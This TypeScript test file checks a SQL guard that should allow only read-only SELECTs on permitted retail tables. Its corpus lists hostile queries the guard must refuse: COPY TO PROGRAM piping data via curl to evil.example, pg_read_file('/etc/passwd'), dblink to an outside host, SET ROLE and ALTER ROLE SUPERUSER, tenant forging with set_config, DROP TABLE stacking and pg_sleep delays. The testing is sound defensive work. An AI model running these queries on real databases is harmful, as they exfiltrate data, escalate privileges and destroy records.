import { describe, expect, it } from 'bun:test'
import { guardSql, type SqlGuardReason } from '../../../../src/data/sql-guard/index.ts'
import { refusal } from './support/refusal.ts'

/** Hostile or broken inputs, each with the reason the guard must give. */
const CORPUS: readonly (readonly [name: string, sql: string, reason: SqlGuardReason])[] = [
  // Escaping the read-only transaction with more statements.
  ['COMMIT then a write', 'COMMIT; DELETE FROM retail.orders', 'multiple_statements'],
  [
    'a write after a commit after a select',
    'select 1; commit; drop table retail.orders',
    'multiple_statements',
  ],
  [
    'a statement after a comment holding a semicolon',
    "/* ; */ select 1; update retail.orders set status = 'x'",
    'multiple_statements',
  ],
  ['a statement after a line comment', 'select 1 -- \n; drop table retail.orders', 'multiple_statements'],
  ['a harmless second SELECT', 'SELECT 1; SELECT 2', 'multiple_statements'],
  [
    'a backslash that does not escape a quote',
    "select 'a\\'; drop table retail.orders; --'",
    'multiple_statements',
  ],
  [
    'a set_config after the query',
    "select 1;\nselect set_config('zava.tenant', '', false)",
    'multiple_statements',
  ],
  // Statements other than SELECT.
  ['a bare COMMIT', 'COMMIT', 'not_select'],
  ['BEGIN', 'BEGIN', 'not_select'],
  ['START TRANSACTION READ WRITE', 'START TRANSACTION READ WRITE', 'not_select'],
  ['SET ROLE', 'SET ROLE zava_owner', 'not_select'],
  ['RESET ROLE', 'RESET ROLE', 'not_select'],
  ['SET LOCAL', 'SET LOCAL statement_timeout = 0', 'not_select'],
  ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION zava_owner', 'not_select'],
  ['SET TRANSACTION READ WRITE', 'SET TRANSACTION READ WRITE', 'not_select'],
  ['DISCARD ALL', 'DISCARD ALL', 'not_select'],
  ['DELETE', 'DELETE FROM retail.orders', 'not_select'],
  ['UPDATE', "UPDATE retail.orders SET status = 'cancelled'", 'not_select'],
  ['INSERT … SELECT', 'INSERT INTO retail.regions (name) SELECT name FROM retail.stores', 'not_select'],
  [
    'MERGE',
    'MERGE INTO retail.orders o USING retail.orders s ON false WHEN NOT MATCHED THEN DO NOTHING',
    'not_select',
  ],
  ['COPY TO PROGRAM', "COPY retail.orders TO PROGRAM 'curl -d @- https://evil.example'", 'not_select'],
  ['COPY a query to a file', "copy (select 1) to '/tmp/x'", 'not_select'],
  ['a DO block', "DO $$ BEGIN PERFORM set_config('role', 'zava_owner', false); END $$", 'not_select'],
  ['CALL', 'CALL retail.some_procedure()', 'not_select'],
  ['PREPARE', 'PREPARE p AS DELETE FROM retail.orders', 'not_select'],
  ['EXECUTE', 'EXECUTE p', 'not_select'],
  ['DEALLOCATE', 'DEALLOCATE ALL', 'not_select'],
  ['LISTEN', 'LISTEN zava', 'not_select'],
  ['NOTIFY', "NOTIFY zava, 'hello'", 'not_select'],
  ['UNLISTEN', 'UNLISTEN *', 'not_select'],
  ['EXPLAIN ANALYZE of a delete', 'EXPLAIN ANALYZE DELETE FROM retail.orders', 'not_select'],
  ['EXPLAIN of a select', 'EXPLAIN (FORMAT JSON) SELECT * FROM retail.orders', 'not_select'],
  ['CREATE TABLE AS', 'CREATE TABLE stolen AS SELECT * FROM retail.customers', 'not_select'],
  ['CREATE FUNCTION', "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'not_select'],
  ['ALTER ROLE', 'ALTER ROLE zava_app SUPERUSER', 'not_select'],
  ['ALTER TABLE', 'ALTER TABLE retail.orders DISABLE ROW LEVEL SECURITY', 'not_select'],
  ['GRANT', 'GRANT ALL ON retail.orders TO PUBLIC', 'not_select'],
  ['VACUUM', 'VACUUM FULL retail.orders', 'not_select'],
  ['LOCK TABLE', 'LOCK TABLE retail.orders IN ACCESS EXCLUSIVE MODE', 'not_select'],
  ['DECLARE CURSOR', 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM retail.orders', 'not_select'],
  ['FETCH', 'FETCH 10 FROM zava_result', 'not_select'],
  ['CLOSE', 'CLOSE zava_result', 'not_select'],
  ['TRUNCATE', 'TRUNCATE retail.orders', 'not_select'],
  ['SHOW', 'SHOW zava.tenant', 'not_select'],
  ['CHECKPOINT', 'CHECKPOINT', 'not_select'],
  ['LOAD', "LOAD '/tmp/evil.so'", 'not_select'],
  // Writes and locks inside a SELECT.
  [
    'a DELETE in a CTE',
    'WITH d AS (DELETE FROM retail.orders RETURNING *) SELECT count(*) FROM d',
    'data_modifying_cte',
  ],
  [
    'an UPDATE in a later CTE',
    "WITH a AS (SELECT 1), u AS (UPDATE retail.orders SET status = 'x' RETURNING 1) SELECT * FROM a",
    'data_modifying_cte',
  ],
  [
    'an INSERT in a nested CTE',
    "SELECT * FROM (WITH i AS (INSERT INTO retail.regions (name) VALUES ('x') RETURNING 1) SELECT * FROM i) s",
    'data_modifying_cte',
  ],
  [
    'a MERGE in a CTE',
    'WITH m AS (MERGE INTO retail.orders o USING retail.orders s ON false WHEN NOT MATCHED THEN DO NOTHING RETURNING o.order_id) SELECT * FROM m',
    'data_modifying_cte',
  ],
  ['SELECT INTO', 'SELECT * INTO stolen FROM retail.customers', 'select_into'],
  ['FOR UPDATE', 'SELECT * FROM retail.orders FOR UPDATE', 'locking_clause'],
  ['FOR NO KEY UPDATE NOWAIT', 'SELECT * FROM retail.orders FOR NO KEY UPDATE NOWAIT', 'locking_clause'],
  [
    'FOR KEY SHARE in a subquery',
    'SELECT * FROM (SELECT * FROM retail.orders FOR KEY SHARE) o',
    'locking_clause',
  ],
  [
    'FOR SHARE in a lateral subquery',
    'SELECT * FROM retail.stores s, LATERAL (SELECT 1 FROM retail.orders FOR SHARE SKIP LOCKED) x',
    'locking_clause',
  ],
  // Settings and the tenant context.
  ['set_config', "SELECT set_config('zava.tenant', 'forged', false)", 'function_not_allowed'],
  [
    'set_config qualified with pg_catalog',
    "SELECT pg_catalog.set_config('role', 'zava_owner', true)",
    'function_not_allowed',
  ],
  ['current_setting of the tenant context', "select current_setting('zava.tenant')", 'function_not_allowed'],
  ['current_user', 'SELECT current_user', 'function_not_allowed'],
  // Locks, sleeps, signals, sequences, transaction ids.
  ['a session advisory lock', 'SELECT pg_advisory_lock(42)', 'function_not_allowed'],
  ['a try advisory lock', 'SELECT pg_try_advisory_lock(42)', 'function_not_allowed'],
  ['pg_sleep', 'SELECT pg_sleep(10)', 'function_not_allowed'],
  ['pg_sleep quoted', 'SELECT "pg_sleep"(1)', 'function_not_allowed'],
  ['pg_sleep in capitals', 'SELECT PG_SLEEP(1)', 'function_not_allowed'],
  ['pg_sleep as a unicode-escaped identifier', 'SELECT U&"pg\\005fsleep"(1)', 'function_not_allowed'],
  ['pg_sleep_for in FROM', "SELECT * FROM pg_sleep_for('5 minutes')", 'function_not_allowed'],
  ['pg_terminate_backend', 'SELECT pg_terminate_backend(pid) FROM retail.orders', 'function_not_allowed'],
  ['pg_cancel_backend', 'SELECT pg_cancel_backend(1)', 'function_not_allowed'],
  ['pg_reload_conf', 'SELECT pg_reload_conf()', 'function_not_allowed'],
  ['nextval', "SELECT nextval('retail.orders_seq')", 'function_not_allowed'],
  ['txid_current', 'SELECT txid_current()', 'function_not_allowed'],
  ['pg_notify', "SELECT pg_notify('zava', 'x')", 'function_not_allowed'],
  // Files, large objects, remote servers, SQL text execution.
  ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", 'function_not_allowed'],
  ['pg_ls_dir', "SELECT * FROM pg_ls_dir('.')", 'function_not_allowed'],
  ['lo_import', "SELECT lo_import('/etc/passwd')", 'function_not_allowed'],
  ['dblink', "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", 'function_not_allowed'],
  [
    'query_to_xml running a delete',
    "SELECT query_to_xml('delete from retail.orders', true, true, '')",
    'function_not_allowed',
  ],
  ['xpath', "SELECT xpath('/a', '<a/>'::text)", 'function_not_allowed'],
  ['a function of the tenancy schema', 'SELECT tenancy.visible_store_ids()', 'function_not_allowed'],
  ['an allowed name under another schema', "SELECT public.lower('x')", 'function_not_allowed'],
  [
    'a JavaScript property name as a function',
    'SELECT "constructor"(), "__proto__"()',
    'function_not_allowed',
  ],
  // Forbidden functions hidden deep in the tree.
  [
    'a forbidden call in ORDER BY',
    'SELECT order_id FROM retail.orders ORDER BY pg_sleep(1)',
    'function_not_allowed',
  ],
  [
    'a forbidden call in a window definition',
    'SELECT row_number() OVER (PARTITION BY pg_backend_pid()) FROM retail.orders',
    'function_not_allowed',
  ],
  [
    'a forbidden call in a named window',
    'SELECT rank() OVER w FROM retail.orders WINDOW w AS (ORDER BY pg_sleep(1))',
    'function_not_allowed',
  ],
  [
    'a forbidden call in FILTER',
    'SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM retail.orders',
    'function_not_allowed',
  ],
  [
    'a forbidden call in a LATERAL subquery',
    'SELECT * FROM retail.stores s CROSS JOIN LATERAL (SELECT pg_sleep(1)) x',
    'function_not_allowed',
  ],
  ['a forbidden call in VALUES', 'SELECT * FROM (VALUES (1, pg_sleep(1))) v(a, b)', 'function_not_allowed'],
  [
    'a top-level VALUES with a forbidden call',
    "VALUES (set_config('role', 'x', false))",
    'function_not_allowed',
  ],
  [
    'a forbidden call as a function argument',
    "SELECT lower(current_setting('zava.tenant'))",
    'function_not_allowed',
  ],
  ['a forbidden call in CASE', 'SELECT CASE WHEN true THEN pg_sleep(1)::text END', 'function_not_allowed'],
  [
    'a forbidden call in a CTE',
    'WITH x AS (SELECT pg_advisory_lock(1)) SELECT * FROM x',
    'function_not_allowed',
  ],
  [
    'a forbidden call in GROUP BY',
    'SELECT count(*) FROM retail.orders GROUP BY pg_sleep(1)',
    'function_not_allowed',
  ],
  ['a forbidden call in LIMIT', 'SELECT 1 LIMIT (SELECT pg_sleep(1))::int', 'function_not_allowed'],
  [
    'a forbidden call in TABLESAMPLE arguments',
    'SELECT * FROM retail.orders TABLESAMPLE BERNOULLI (pg_sleep(1)::int)',
    'function_not_allowed',
  ],
  ['a forbidden call in a JSON constructor', "SELECT JSON_OBJECT('a': pg_sleep(1))", 'function_not_allowed'],
  // Catalogs, other schemas, unknown tables.
  ['pg_authid qualified', 'select * from pg_catalog.pg_authid', 'schema_not_allowed'],
  ['pg_roles unqualified (resolves to pg_catalog)', 'select * from pg_roles', 'relation_not_allowed'],
  ['the tenancy schema', 'select * from tenancy.users', 'schema_not_allowed'],
  [
    'the signing key in a subquery',
    'SELECT 1 WHERE EXISTS (SELECT 1 FROM tenancy.signing_key)',
    'schema_not_allowed',
  ],
  ['information_schema', 'select * from information_schema.tables', 'schema_not_allowed'],
  ['migrations metadata', 'SELECT * FROM zava_meta.schema_migrations', 'schema_not_allowed'],
  ['an unknown retail table', 'SELECT * FROM retail.secrets', 'relation_not_allowed'],
  ['a database-qualified table', 'SELECT * FROM zava.retail.orders', 'relation_not_allowed'],
  ['TABLE on a catalog', 'TABLE pg_catalog.pg_shadow', 'schema_not_allowed'],
  [
    'a CTE named like a catalog table hiding a qualified reference',
    'WITH pg_authid AS (SELECT 1) SELECT * FROM pg_catalog.pg_authid',
    'schema_not_allowed',
  ],
  [
    'a catalog reference before a same-named CTE',
    'WITH x AS (SELECT * FROM pg_authid), pg_authid AS (SELECT 1) SELECT * FROM x',
    'relation_not_allowed',
  ],
  [
    'a CTE name used outside its subquery',
    'SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x',
    'relation_not_allowed',
  ],
  [
    'a CTE name used across UNION outside its branch',
    '(WITH x AS (SELECT 1 AS a) SELECT * FROM x) UNION SELECT * FROM x',
    'relation_not_allowed',
  ],
  [
    'a CTE that shadows a table but reads a catalog',
    'WITH orders AS (SELECT * FROM pg_roles) SELECT * FROM orders',
    'relation_not_allowed',
  ],
  // Casts and syntax that probe the catalogs.
  ['a regclass cast', "SELECT 'retail.orders'::regclass", 'type_not_allowed'],
  ['a regclass typed literal', "SELECT regclass 'pg_authid'", 'type_not_allowed'],
  ['a regrole cast with CAST', "SELECT CAST('zava_owner' AS pg_catalog.regrole)", 'type_not_allowed'],
  ['a regproc array cast', "SELECT ARRAY['now']::regproc[]", 'type_not_allowed'],
  ['an xml cast', "SELECT '<a/>'::xml", 'type_not_allowed'],
  ['XML syntax', 'SELECT xmlelement(name a)', 'syntax_not_allowed'],
  [
    'JSON_TABLE',
    "SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' COLUMNS (a int PATH '$.a')) jt",
    'syntax_not_allowed',
  ],
  ['a $1 parameter', 'SELECT * FROM retail.orders WHERE order_id = $1', 'syntax_not_allowed'],
  ['an operator from another schema', 'SELECT 1 OPERATOR(public.+) 1', 'operator_not_allowed'],
  [
    'a function called by field selection',
    "SELECT ('zava.tenant'::text).current_setting",
    'syntax_not_allowed',
  ],
  [
    'a file read by field selection on a column',
    'SELECT (c.email).pg_read_file FROM retail.customers c',
    'syntax_not_allowed',
  ],
  [
    'a call by field selection after a subscript',
    "SELECT (ARRAY['zava.tenant'])[1].current_setting",
    'syntax_not_allowed',
  ],
  [
    'an extension TABLESAMPLE method',
    'SELECT * FROM retail.orders TABLESAMPLE system_rows(10)',
    'tablesample_not_allowed',
  ],
  // Broken input.
  ['the empty string', '', 'empty'],
  ['only whitespace', '  \n\t ', 'empty'],
  ['only a comment', '-- just a comment', 'empty'],
  ['only semicolons and comments', '; /* nothing */ ;', 'empty'],
  ['a NUL byte', 'SELECT 1\0; DROP TABLE retail.orders', 'nul_byte'],
  ['a lone UTF-16 surrogate', "SELECT '\uD800'", 'invalid_unicode'],
  ['prose', 'Show me the top products by revenue for last quarter please', 'syntax_error'],
  ['a Markdown fence', '```sql\nSELECT 1\n```', 'syntax_error'],
  ['an unterminated comment', 'SELECT 1 /* never closed', 'syntax_error'],
  ['an unterminated string', "SELECT 'oops", 'syntax_error'],
]

describe('guardSql on hostile and broken input', () => {
  it('has a corpus of at least 50 cases', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(50)
  })

  for (const [name, sql, reason] of CORPUS) {
    it(`refuses ${name} with ${reason}`, async () => {
      const error = await refusal(guardSql(sql))
      expect(error.reason).toBe(reason)
      expect(error.code).toBe('VALIDATION_ERROR')
      expect(error.hint?.length ?? 0).toBeGreaterThan(10)
    })
  }

  it('refuses 10 MB of input as too_long before parsing it', async () => {
    const huge = `SELECT ${'a, '.repeat(3_500_000)}1`
    const started = performance.now()
    const error = await refusal(guardSql(huge))
    const elapsed = performance.now() - started
    expect(error.reason).toBe('too_long')
    expect(elapsed).toBeLessThan(50)
  })

  it('refuses input nested beyond what can be checked as too_complex or syntax_error, not a crash', async () => {
    const deep = `SELECT ${'(SELECT '.repeat(5_000)}1${')'.repeat(5_000)}`
    const error = await refusal(guardSql(deep))
    expect(['too_complex', 'syntax_error']).toContain(error.reason)
  })

  it('names the statement kinds it found when there are several', async () => {
    const error = await refusal(guardSql('select 1; commit; drop table retail.orders'))
    expect(error.message).toContain('SELECT; COMMIT; DROP TABLE')
    expect(error.position).toBe(10)
  })

  it('carries the parser message and position for a syntax error', async () => {
    const error = await refusal(guardSql('SELECT order_id FRM retail.orders'))
    expect(error.message).toContain('syntax error at or near')
    expect(error.position).toBe(20)
  })

  it('names the refused table and lists the allowed ones in the hint', async () => {
    const error = await refusal(guardSql('select * from tenancy.users'))
    expect(error.message).toContain('tenancy.users')
    expect(error.hint).toContain('retail.orders')
  })

  it('explains a refused settings function in the hint', async () => {
    const error = await refusal(guardSql("select current_setting('zava.tenant')"))
    expect(error.message).toContain('current_setting')
    expect(error.hint).toContain('store scope is applied automatically')
  })
})
